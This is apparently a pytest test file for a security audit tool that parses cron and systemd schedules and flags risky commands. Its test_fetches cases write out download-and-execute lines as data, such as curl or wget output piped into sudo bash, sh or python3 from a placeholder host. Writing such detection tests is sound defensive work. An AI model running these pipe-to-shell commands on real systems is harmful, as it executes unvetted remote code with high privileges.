"""What commands run, the stat of the programs under real shells, and parsers on anything."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from thornwall.facts.schedule import parse
from thornwall.facts.schedule_programs import PROGRAMS
from thornwall.model.capture import Capture, CommandResult, FileRecord, Manifest
from thornwall.model.fact import Known
from thornwall.model.schedule import Job, Schedule
from thornwall.rules.commands import fetches, runs

BUSYBOX = shutil.which("busybox") or ""


@pytest.mark.parametrize(
    ("command", "paths"),
    [
        ("/usr/local/bin/sync-photos.sh", ["/usr/local/bin/sync-photos.sh"]),
        ("cd /home/pi && ./run.sh >> /var/log/x.log 2>&1", ["/home/pi/run.sh"]),
        ("cd /srv/app; python3 main.py", ["/srv/app/main.py"]),
        ("/usr/bin/python3 -u /home/pi/a.py --conf /etc/a.conf", ["/usr/bin/python3", "/home/pi/a.py"]),
        ("/usr/bin/env python3 /a/b.py", ["/a/b.py"]),
        ("sudo -u pi /opt/x.sh /not/this", ["/opt/x.sh"]),
        ("flock -n /run/lock/l /opt/y.sh", ["/opt/y.sh"]),
        ("timeout -s KILL 10 nice -n 5 ionice -c 3 /a/b", ["/a/b"]),
        ("FOO=/x bash -c '/opt/q.sh; /opt/r.sh'", ["/opt/q.sh", "/opt/r.sh"]),
        ("[ -x /a/b ] && /a/c || /a/d", ["/a/c", "/a/d"]),
        ("if [ -x /a/b ]; then /a/b; fi", ["/a/b"]),
        ("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", []),
        (". /a/env && /b/c x", ["/a/env", "/b/c"]),
        ("python3 -m http.server", []),
        ("rsync -a /home /mnt", []),
        ("/a/../b//c", ["/b/c"]),
    ],
)
def test_runs(command: str, paths: list[str]) -> None:
    assert list(runs(command)) == paths


@pytest.mark.parametrize(
    ("command", "does"),
    [
        ("curl -s http://x.example/y | sudo bash", True),
        ("wget -qO- https://x.example | /bin/sh", True),
        ('bash -c "$(curl -fsSL https://x.example)"', True),
        ("curl https://x.example | python3 -", True),
        ("curl https://x.example -o /srv/data.json", False),
        ("curl https://x.example | gzip > /srv/x.gz", False),
        ("wget https://x.example/shell.tar", False),
    ],
)
def test_fetches(command: str, does: bool) -> None:
    assert fetches(command) is does


@given(st.text(max_size=200))
def test_any_command_is_taken(command: str) -> None:
    assert all(path.startswith("/") for path in runs(command))
    assert fetches(command) in {True, False}


def stat(root: Path, shell: str, scratch: Path) -> Schedule:
    path = os.environ["PATH"]
    if shell == "busybox":
        scratch.mkdir()
        for name in ("sh", "find", "stat", "awk"):
            (scratch / name).symlink_to(BUSYBOX)
        path = str(scratch)
    done = subprocess.run(
        [str(scratch / "sh") if shell == "busybox" else "dash", "-c", PROGRAMS],
        cwd=root,
        env={"PATH": path, "LC_ALL": "C"},
        capture_output=True,
        check=True,
    )
    walked = b"! \nu 0 root\nu 4242 pi\ng 0 root\n! end\n"
    commands = {
        "programs": CommandResult("programs", done.stdout, b"", 0),
        "walk": CommandResult("walk", walked, b"", 0),
    }
    fact = parse(Capture(Manifest("t", "directory", 0), {}, commands))
    assert isinstance(fact, Known)
    return fact.value


@pytest.mark.parametrize("shell", ["dash", *(["busybox"] if BUSYBOX else [])])
def test_programs_are_looked_at_with_all_folders_above(tmp_path: Path, shell: str) -> None:
    root = tmp_path / "root"
    for folder in ("etc/cron.d", "etc/cron.daily", "etc/systemd/system", "opt/tools", "home/pi", "usr/bin"):
        (root / folder).mkdir(parents=True)
    for path, mode in (("opt/tools/a.sh", 0o777), ("home/pi/b.py", 0o644), ("etc/cron.daily/job", 0o755)):
        (root / path).touch()
        (root / path).chmod(mode)
    (root / "bin").symlink_to("usr/bin")
    (root / "usr/bin/tool").symlink_to("/etc/passwd")
    (root / "etc/cron.d/one").write_text("# /opt/never\nPATH=/bin:/opt\n* * * * * root /opt/tools/a.sh >/dev/null\n")
    (root / "etc/systemd/system/x.service").write_text(
        "[Service]\nWorkingDirectory=/srv\nExecStart=-/usr/bin/tool \\\n   /home/pi/b.py\nUser=/opt/tools\n"
    )
    seen = stat(root, shell, tmp_path / "applets")
    assert isinstance(seen.programs, Known)
    programs = seen.programs.value
    assert set(programs) >= {"/opt", "/opt/tools", "/opt/tools/a.sh", "/bin", "/home", "/home/pi", "/home/pi/b.py"}
    assert not {"/opt/never", "/dev/null", "/srv"} & set(programs)
    assert programs["/opt/tools/a.sh"].mode == 0o777
    assert programs["/usr/bin/tool"].type == "l", "a link of a mounted root is not followed out of it"
    assert [job.source for job in seen.jobs] == ["/etc/cron.daily/job"]


def test_crontab_lines() -> None:
    text = (
        "SHELL=/bin/sh\nPATH = /usr/bin\n\n# m h dom mon dow user command\n17 *\t* * *\troot\tcd / && run-parts x\n"
        "@daily pi /home/pi/x.sh --a=b\n*/5 * * * * root\nbroken\n"
    )
    files = {"/etc/crontab": FileRecord("/etc/crontab", content=text.encode())}
    fact = parse(Capture(Manifest("t", "ssh", 0, reads=("/etc/crontab", "/etc/cron.d/*")), files))
    assert isinstance(fact, Known)
    jobs = [(job.line, job.when, job.user, job.command) for job in fact.value.jobs]
    assert jobs == [
        (5, "17 * * * *", "root", "cd / && run-parts x"),
        (6, "@daily", "pi", "/home/pi/x.sh --a=b"),
    ]
    assert fact.value.paths == {"/etc/crontab": ("/usr/bin", 2)}


PATHS = st.sampled_from(
    ["/etc/crontab", "/etc/cron.d/a", "/etc/anacrontab", "/var/spool/cron/crontabs/pi", "/etc/systemd/system/a.timer"]
)


@given(st.dictionaries(PATHS, st.one_of(st.binary(max_size=200), st.text(max_size=200).map(str.encode))), st.binary())
def test_any_tables_are_taken(files: dict[str, bytes], programs: bytes) -> None:
    records = {path: FileRecord(path, content=content) for path, content in files.items()}
    commands = {"programs": CommandResult("programs", programs, b"", 0)}
    reads = ("/etc/crontab", "/etc/cron.d/*", "/etc/anacrontab", "/var/spool/cron/crontabs/*")
    fact = parse(Capture(Manifest("t", "ssh", 0, reads=reads), records, commands))
    assert isinstance(fact, Known)
    assert all(isinstance(job, Job) for job in fact.value.jobs)
